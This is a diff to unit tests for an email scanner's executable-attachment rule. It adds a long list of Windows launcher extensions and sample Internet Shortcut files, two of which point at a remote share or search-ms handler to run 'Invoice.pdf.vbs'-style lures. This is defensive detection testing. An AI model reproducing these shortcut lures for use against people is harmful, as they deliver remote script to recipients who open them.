@@ -632,8 +632,12 @@ static void test_exe_attachment(void **state)
 	ASSERT_FIRES(m, "EXE_ATTACHMENT");
 	free(m);
 
-	static const char *const exts[] = { "bat", "cmd", "com", "cpl", "exe", "hta", "jar", "js", "jse", "lnk",
-		"msi", "pif", "ps1", "scr", "vbe", "vbs", "wsf", "wsh" };
+	static const char *const exts[] = { "application", "appref-ms", "bat", "chm", "cmd", "com", "cpl",
+		"diagcab", "exe", "gadget", "hlp", "hta", "inf", "ins", "isp", "jar", "jnlp", "js", "jse",
+		"library-ms", "lnk", "msc", "msh", "msi", "msp", "mst", "msu", "pif", "ps1", "ps1xml", "psc1",
+		"reg", "scf", "scr", "sct", "search-ms", "settingcontent-ms", "shb", "shs", "vbe", "vbs",
+		"vhdx", "ws", "wsb", "wsc", "wsf", "wsh", "xbap", "xll", "xnk",
+		"EXE", "Settingcontent-MS" };
 	for (size_t i = 0; i < MW_ARRAY_LEN(exts); i++) {
 		char *name = xasprintf("file.%s", exts[i]);
 		m = with_attachment(name, "application/octet-stream", pdf);
@@ -646,6 +650,37 @@ static void test_exe_attachment(void **state)
 	m = with_attachment("invoice.pdf", "application/pdf", pdf);
 	ASSERT_QUIET(m, "EXE_ATTACHMENT");
 	free(m);
+	/* Internet shortcuts: to a web page a link (a ham of the corpus sends
+	 * one), to a share or a protocol handler a launcher. */
+	static const char web_url[] = "[InternetShortcut]\r\nURL=http://www.example.edu/~a/lib.html\r\n";
+	static const char share_url[] = "[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,9\r\n"
+	    "[InternetShortcut]\r\nIDList=\r\nurl=file://198.51.100.7@80/share/Invoice.pdf.vbs\r\n";
+	static const char search_url[] = "[InternetShortcut]\nURL=search-ms:query=invoice&crumb=location:\\\\198.51.100.7@80\\s\n";
+	m = zip_message("Liberalism in America.url", web_url, sizeof(web_url) - 1);
+	ASSERT_QUIET(m, "EXE_ATTACHMENT");
+	free(m);
+	m = zip_message("Invoice.url", share_url, sizeof(share_url) - 1);
+	scan(m, &v);
+	assert_true(reason_has(&v, "EXE_ATTACHMENT",
+	    "\"Invoice.url\" is a Windows shortcut to file://198.51.100.7@80/share/Invoice.pdf.vbs"));
+	score_verdict_free(&v);
+	free(m);
+	m = zip_message("Documents.URL", search_url, sizeof(search_url) - 1);
+	ASSERT_FIRES(m, "EXE_ATTACHMENT");
+	free(m);
+	/* The same text under another name is text. */
+	m = zip_message("notes.txt", share_url, sizeof(share_url) - 1);
+	ASSERT_QUIET(m, "EXE_ATTACHMENT");
+	free(m);
+
+	/* Source code and files engineers and offices mail: quiet. */
+	static const char *const quiet[] = { "top.vhd", "Module1.bas", "Form1.vb", "tool.py", "server.crt",
+		"book.xlsx", "scan.jpg", "notes.md", "a.settingcontent-msx", "b.xl" };
+	for (size_t i = 0; i < MW_ARRAY_LEN(quiet); i++) {
+		m = with_attachment(quiet[i], "application/octet-stream", pdf);
+		ASSERT_QUIET(m, "EXE_ATTACHMENT");
+		free(m);
+	}
 	m = with_attachment("build.sh", "application/x-sh", "IyEvYmluL3NoCmVjaG8gaGVsbG8K");   /* #!/bin/sh */
 	ASSERT_QUIET(m, "EXE_ATTACHMENT");
 	free(m);
@@ -695,6 +730,14 @@ static void test_archive_attachment(void **state)
 	struct buf b = BUF_INIT;
 	struct score_verdict v;
 
+	/* A driver's setup .inf and a website shortcut inside an archive are
+	 * what software packages carry: quiet there (an .inf attachment counts). */
+	static const char *const soft[] = { "driver/setup.inf", "Visit us.url" };
+	zip_build(&b, soft, 2, 0);
+	char *sw = zip_message("driver.zip", b.data, b.len);
+	ASSERT_QUIET(sw, "EXE_ATTACHMENT");
+	free(sw);
+	buf_free(&b);
 	static const char *const exe[] = { "readme.txt", "invoice.pdf.exe" };
 	zip_build(&b, exe, 2, 0);
 	char *m = zip_message("invoice.zip", b.data, b.len);
